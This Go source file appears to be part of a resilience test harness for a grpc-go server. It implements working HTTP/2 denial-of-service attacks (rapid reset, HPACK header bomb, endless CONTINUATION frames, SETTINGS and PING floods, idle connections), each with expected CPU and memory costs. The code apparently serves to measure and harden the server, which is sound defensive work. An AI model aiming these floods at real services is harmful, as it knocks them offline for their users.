//go:build linux

package main

import (
	"encoding/binary"
	"errors"
	"io"
	"strings"
	"syscall"
)

// Attacks of clients that speak HTTP/2. grpc-go reads what they send.
var http2Attacks = []*attack{
	{
		name: "http2-reset", path: overTCP, full: 1_000_000, short: 50_000,
		what:   "%s calls of HTTP/2 opened and reset",
		before: "not measured",
		known:  &excuse{cpu: 2000, why: "a call takes grpc-go some 10 µs, as an honest one does, and the attacker only writes prepared bytes"},
		run:    func(a *attacker) error { return a.http2OpenAndReset("HalfDuplexCall") },
	},
	{
		name: "http2-reset-busy", path: overTCP, full: 1_000_000, short: 50_000,
		what:   "%s calls of HTTP/2 opened and reset whose handlers take 2 s",
		before: "not measured",
		known:  &excuse{cpu: 2000, why: "as above; grpc-go reads no further while 1,000 handlers run"},
		run:    func(a *attacker) error { return a.http2OpenAndReset("StreamingInputCall") },
	},
	{
		name: "http2-bomb", path: overTCP, full: 990, short: 500,
		what:   "%s calls of HTTP/2, left open, whose headers repeat an entry of 4 kB 15 times",
		before: "843 MB for 50 calls, with grpc-go's limit of 16 MiB",
		known:  &excuse{each: 128 << 10, cpu: 4000, why: "grpc-go decodes up to MaxHeaderListSize of each header, by default 64 KiB: for a connection 64 MiB, as of unread messages"},
		run:    headerBomb,
	},
	{
		name: "http2-continuation", path: overTCP, full: 50, short: 10,
		what:   "%s connections of HTTP/2 whose headers do not end: 16 MiB in CONTINUATION frames",
		before: "not measured",
		known:  &excuse{cpu: 30, why: "grpc-go decodes what it discards, and the attacker only writes prepared bytes"},
		run:    continuations,
	},
	{
		name: "http2-settings", path: overTCP, full: 2_000_000, short: 500_000,
		what:   "%s empty SETTINGS of HTTP/2",
		before: "not measured",
		known:  &excuse{cpu: 60, why: "grpc-go answers each, in some 400 ns, and the attacker only writes prepared bytes"},
		run:    func(a *attacker) error { return a.http2Flood(a.count, frameSettings, 0) },
	},
	{
		name: "http2-pings", path: overTCP, full: 20, short: 20,
		what:   "%s connections of HTTP/2 with 65,536 PINGs each",
		before: "not measured",
		known:  &excuse{cpu: 100, why: "grpc-go hangs up on a client with too many PINGs, and may read for another second"},
		run:    pings,
	},
	{
		name: "http2-preface", path: overTCP, full: 5_000, short: 500,
		what:   "%s connections that send a half of the preface of HTTP/2 and no more",
		before: "not measured",
		known:  &excuse{each: 24 << 10, why: "a connection takes some 7 kB of itself; how many there are is for the listener to limit"},
		run:    func(a *attacker) error { return a.silent(preface[:12]) },
	},
	{
		name: "http2-idle", path: overTCP, full: 5_000, short: 500,
		what:   "%s connections that send the preface and the settings of HTTP/2 and no more",
		before: "not measured",
		known:  &excuse{each: 64 << 10, why: "a connection takes grpc-go some 20 kB; how many there are is for the listener to limit"},
		run: func(a *attacker) error {
			return a.silent(string(http2Frame([]byte(preface), frameSettings, 0, 0, "")))
		},
	},
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// Types, flags and sizes of HTTP/2 frames.
const (
	frameData         = 0
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	framePing         = 6
	frameContinuation = 9
	flagEndStream     = 1
	flagEndHeaders    = 4
	largestFrame      = 16 << 10
)

// An http2Peer is a peer that speaks HTTP/2. Its write counts what was sent.
type http2Peer struct {
	*peer
	stream uint32 // of the last call
}

func http2Frame(b []byte, kind, flags byte, stream uint32, body string) []byte {
	b = append(b, byte(len(body)>>16), byte(len(body)>>8), byte(len(body)), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), body...)
}

// hpackText encodes a string.
func hpackText(s string) string {
	if len(s) < 127 {
		return string([]byte{byte(len(s))}) + s
	}
	return string(binary.AppendUvarint([]byte{127}, uint64(len(s)-127))) + s
}

// fields are a call's own header fields, encoded with HPACK: POST, http, the path, the
// authority and the content type. They are not added to the table.
func fields(method string) string {
	return "\x83\x86\x04" + hpackText(methods+method) + "\x01" + hpackText("localhost") + "\x0f\x10" + hpackText("application/grpc")
}

// enterHTTP2 connects, makes an ordinary call, and from then on reads and discards
// everything. The call shows that the attack's frames follow the protocol.
func (a *attacker) enterHTTP2() (*http2Peer, error) {
	inner, err := a.dial(overTCP)
	if err != nil {
		return nil, err
	}
	p := &http2Peer{inner, 1}
	b := http2Frame([]byte(preface), frameSettings, 0, 0, "")
	b = http2Frame(b, frameHeaders, flagEndHeaders, 1, fields("EmptyCall"))
	b = http2Frame(b, frameData, flagEndStream, 1, "\x00\x00\x00\x00\x00")
	if err := p.write(b); err != nil {
		return nil, err
	}
	for head := make([]byte, 9); ; {
		if _, err := io.ReadFull(p.conn, head); err != nil {
			return nil, err
		}
		if _, err := io.CopyN(io.Discard, p.conn, int64(head[0])<<16|int64(head[1])<<8|int64(head[2])); err != nil {
			return nil, err
		}
		switch {
		case head[3] == frameData:
			p.drain()
			return p, nil
		case head[3] == frameHeaders && head[4]&flagEndStream != 0:
			return nil, errors.New("an ordinary call of HTTP/2 fails")
		}
	}
}

// open appends the HEADERS frame of a new call.
func (p *http2Peer) open(b []byte, block string) []byte {
	p.stream += 2
	return http2Frame(b, frameHeaders, flagEndHeaders, p.stream, block)
}

func (a *attacker) http2OpenAndReset(method string) error {
	p, err := a.enterHTTP2()
	if err != nil {
		return err
	}
	// The first call adds the path, the authority and the content type to the table.
	block := "\x83\x86\x44" + hpackText(methods+method) + "\x41" + hpackText("localhost") + "\x5f" + hpackText("application/grpc")
	return p.repeat(a.count, func(b []byte) []byte {
		b = p.open(b, block)
		block = "\x83\x86\xc0\xbf\xbe"
		return http2Frame(b, frameReset, 0, p.stream, "\x00\x00\x00\x08")
	})
}

// headerBomb adds an entry to the table, to which each call then refers with single bytes.
// The value is binary, so that the server decodes it each time. A header with more of them
// is refused.
func headerBomb(a *attacker) error {
	p, err := a.enterHTTP2()
	if err != nil {
		return err
	}
	block := fields("HalfDuplexCall")
	first := block + "\x40" + hpackText("bomb-bin") + hpackText(strings.Repeat("A", 4000))
	if err := p.write(p.open(nil, first)); err != nil {
		return err
	}
	return p.repeat(a.count, func(b []byte) []byte { return p.open(b, block+strings.Repeat("\xbe", 15)) })
}

func continuations(a *attacker) error {
	part := strings.Repeat("\x00"+hpackText("key")+hpackText(strings.Repeat("x", 250)), largestFrame/258)
	for range a.count {
		p, err := a.enterHTTP2()
		if err != nil {
			return err
		}
		p.stream += 2
		if err := p.write(http2Frame(nil, frameHeaders, 0, p.stream, fields("HalfDuplexCall"))); err != nil {
			return err
		}
		err = p.repeat(1000, func(b []byte) []byte { return http2Frame(b, frameContinuation, 0, p.stream, part) })
		if err != nil && !hungUp(err) {
			return err
		}
	}
	return nil
}

// http2Flood sends n small frames on a connection, and reads the answers. The server may
// hang up.
func (a *attacker) http2Flood(n int, kind byte, size int) error {
	p, err := a.enterHTTP2()
	if err != nil {
		return err
	}
	body := strings.Repeat("\x00", size)
	err = p.repeat(n, func(b []byte) []byte { return http2Frame(b, kind, 0, 0, body) })
	if hungUp(err) {
		return nil
	}
	return err
}

func pings(a *attacker) error {
	for range a.count {
		if err := a.http2Flood(1<<16, framePing, 8); err != nil {
			return err
		}
	}
	return nil
}

// hungUp reports whether the server has closed the connection.
func hungUp(err error) bool {
	return errors.Is(err, syscall.EPIPE) || errors.Is(err, syscall.ECONNRESET)
}

// silent opens a.count connections and sends b on each.
func (a *attacker) silent(b string) error {
	for range a.count {
		p, err := a.dial(overTCP)
		if err != nil {
			return err
		}
		p.drain()
		if err := p.write([]byte(b)); err != nil {
			return err
		}
	}
	return nil
}
